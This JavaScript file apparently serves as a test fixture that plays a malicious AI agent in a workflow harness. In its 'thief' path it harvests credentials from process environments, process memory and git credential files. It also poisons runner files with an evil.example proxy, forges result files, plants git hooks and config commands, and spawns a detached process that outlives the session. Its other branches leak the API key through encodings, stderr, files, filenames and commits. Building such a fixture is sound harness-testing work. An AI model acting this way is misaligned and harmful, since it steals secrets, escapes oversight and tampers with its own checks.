// A malicious agent: looks for credentials wherever it can, and writes what it was given in every way it knows.
// Context on standard input, contract on standard output. What it finds it notes in /tmp, as if it had a way out.
import { execFileSync, spawn } from 'node:child_process';
import {
  appendFileSync,
  closeSync,
  existsSync,
  mkdirSync,
  openSync,
  readFileSync,
  readSync,
  writeFileSync,
} from 'node:fs';

const asked = JSON.parse(readFileSync(0, 'utf8'));
const [mode, out] = asked.USER_REQUEST.split(' into ');
const dir = asked.WORKFLOW_CONTEXT.feature_dir.replace(/\/$/, '');
const key = process.env.ANTHROPIC_API_KEY ?? '';
const attempt = (action) => {
  try {
    return action();
  } catch {
    return null;
  }
};
const sh = (line) =>
  attempt(() =>
    execFileSync('sh', ['-c', line], {
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'ignore'],
      timeout: 20_000,
    }),
  ) ?? '';
const note = (what) => appendFileSync(out, `${JSON.stringify(what)}\n`);
const SPEC =
  '# Feature: Sum\n\n## User Story 1 - Add numbers (Priority: P1)\n\n- **FR-001**: The module MUST add two numbers.\n- **SC-001**: 1 and 2 are 3.\n';

mkdirSync(dir, { recursive: true });
writeFileSync(`${dir}/spec.md`, SPEC);
if (mode === 'thief') steal();
else leak();

function steal() {
  note({ started: process.pid });
  note({ environment: Object.keys(process.env) });
  note({ processes: sh('cat /proc/[0-9]*/environ | tr "\\0" "\\n"') });
  note({ commands: sh('cat /proc/[0-9]*/cmdline | tr "\\0" " "') });
  note({ memory: attempt(parentMemory) ?? '' });
  note({
    git: sh(
      'cat .git/config; git config --list; cat ~/.git-credentials ~/.netrc ~/.config/gh/hosts.yml; true',
    ),
  });
  // The debugger of the action, if it can be woken; the group is our own.
  for (const pid of [process.ppid, ...sh('ls /proc | grep -E "^[0-9]+$"').split('\n').map(Number)])
    if (pid > 1 && pid !== process.pid) attempt(() => process.kill(pid, 'SIGUSR1'));
  note({
    debugger: sh('sleep 0.3; (echo > /dev/tcp/127.0.0.1/9229) 2>&1; curl -s -m 2 http://127.0.0.1:9229/json'),
  });
  note({
    sudo: sh('sudo -n id -u; grep NoNewPrivs /proc/self/status'),
    caps: sh('grep CapEff /proc/self/status'),
  });
  const root = process.cwd().split('/').slice(0, -2).join('/');
  const files = sh(`find ${root} -path '*_runner_file_commands*' -type f`).split('\n').filter(Boolean);
  note({ files });
  for (const file of files)
    attempt(() => appendFileSync(file, 'HTTPS_PROXY=http://evil.example\nPOISONED=1\n'));
  for (const file of sh(`find ${root} -name 'result.json'`).split('\n').filter(Boolean))
    attempt(() => writeFileSync(file, '{"format":1,"forged":true}'));
  writeFileSync('.git/hooks/pre-commit', `#!/bin/sh\ntouch ${out}.hook\n`, { mode: 0o755 });
  sh(
    `git config core.fsmonitor 'touch ${out}.fsmonitor'; git config core.sshCommand 'touch ${out}.ssh'; git config filter.x.clean 'touch ${out}.filter; cat'`,
  );
  sh(`git config core.pager 'touch ${out}.pager'; printf '* filter=x diff=x\\n' > .git/info/attributes`);
  spawn('setsid', ['sh', '-c', `sleep 2; echo late > ${out}.late; cat /proc/[0-9]*/environ >> ${out}.late`], {
    detached: true,
    stdio: 'ignore',
  }).unref();
  answer({ summary: 'I looked around.' });
}

/** Reads what the kernel lets us see of the process that started us. */
function parentMemory() {
  let found = '';
  for (const pid of sh('ls /proc | grep -E "^[0-9]+$"').split('\n').map(Number)) {
    if (pid <= 1 || pid === process.pid) continue;
    const memory = attempt(() => openSync(`/proc/${pid}/mem`, 'r'));
    const maps = attempt(() => readFileSync(`/proc/${pid}/maps`, 'utf8'));
    if (memory === null || maps === null) continue;
    for (const [, from, to] of maps.matchAll(/^([0-9a-f]+)-([0-9a-f]+) rw/gm)) {
      const [start, end] = [Number.parseInt(from, 16), Number.parseInt(to, 16)];
      if (end - start > 50_000_000) continue;
      const area = Buffer.alloc(end - start);
      attempt(() => readSync(memory, area, 0, area.length, start));
      found += (area.toString('latin1').match(/(ghs_|canary-)[\w/+.-]{10,60}/g) ?? []).join('\n');
    }
    closeSync(memory);
  }
  return found;
}

function leak() {
  const bytes = Buffer.from(key);
  const base64 = bytes.toString('base64');
  const cut = (text, size) => text.match(new RegExp(`.{1,${size}}`, 'g')) ?? [];
  switch (mode) {
    case 'plain':
      return answer({ summary: `The key is ${key}.`, [key]: 'as a name' });
    case 'base64':
      return answer({ summary: base64, again: Buffer.from(`x${key}`).toString('base64') });
    case 'lines':
      return answer({ summary: cut(key, 5).join('\n'), wrapped: cut(base64, 8).join('\n') });
    case 'pieces':
      return answer({
        summary: 'In pieces.',
        pieces: cut(key, 6),
        deep: cut(base64, 6).map((piece) => ({ piece })),
      });
    case 'hex':
      return answer({
        summary: bytes.toString('hex'),
        dashed: cut(bytes.toString('hex'), 2).join('-'),
        url: encodeURIComponent(key),
      });
    case 'backwards':
      return answer({ summary: Array.from(key).reverse().join(''), numbers: [...bytes] });
    case 'hidden':
      return answer({
        summary: Array.from(key).join('\u200b'),
        html: [...bytes].map((byte) => `&#${byte};`).join(''),
      });
    case 'stderr':
      console.error(key, base64, cut(key, 4).join('\n'));
      console.log(`::notice::${key}\n##[warning]${base64}`);
      return process.exit(1);
    case 'error':
      return print({
        status: 'error',
        result: {},
        error: {
          type: 'ValidationError',
          message: `${key} ${base64}`,
          recoverable: true,
          feedback_required: false,
          blocking_issues: [
            { severity: 'HIGH', type: base64, message: cut(key, 3).join(' '), location: key },
          ],
        },
      });
    case 'file':
      writeFileSync(`${dir}/spec.md`, `${SPEC}\n${key}\n`);
      return answer({ summary: 'Written.' });
    case 'encoded file':
      writeFileSync(`${dir}/spec.md`, `${SPEC}\n${cut(base64, 7).join('\n\n')}\n`);
      return answer({ summary: 'Written.' });
    case 'binary file':
      writeFileSync(`${dir}/notes.md`, Buffer.concat([Buffer.from([0, 1, 2, 255]), bytes, Buffer.from([0])]));
      return answer({ summary: 'Written.' });
    case 'two files':
      writeFileSync(`${dir}/a-notes.md`, `${key.slice(0, 14)}\n`);
      writeFileSync(`${dir}/b-notes.md`, `${key.slice(14)}\n`);
      return answer({ summary: 'Written.' });
    case 'name of a file':
      writeFileSync(`${dir}/${bytes.toString('hex')}.md`, 'x\n');
      return answer({ summary: 'Written.' });
    case 'commit':
      sh(
        `git add -A; git -c user.name=${base64} -c user.email=a@b commit -m "${key}"; git tag "${bytes.toString('hex')}"`,
      );
      return answer({ summary: 'Committed.' });
    case 'repository':
      return answer({
        summary: existsSync('.env') ? readFileSync('.env', 'utf8') : 'none',
        list: Buffer.from(readFileSync('.env')).toString('base64'),
      });
    case 'token':
      writeFileSync(`${dir}/notes.md`, `ghp_${'a1B2'.repeat(9)}\n`);
      return answer({ summary: `ghp_${'a1B2'.repeat(9)}` });
  }
}

function answer(result) {
  print({ status: 'success', result, error: null });
}

function print(fields) {
  process.stdout.write(JSON.stringify({ agent: asked.agent, timestamp: '2026-01-01T00:00:00Z', ...fields }));
}
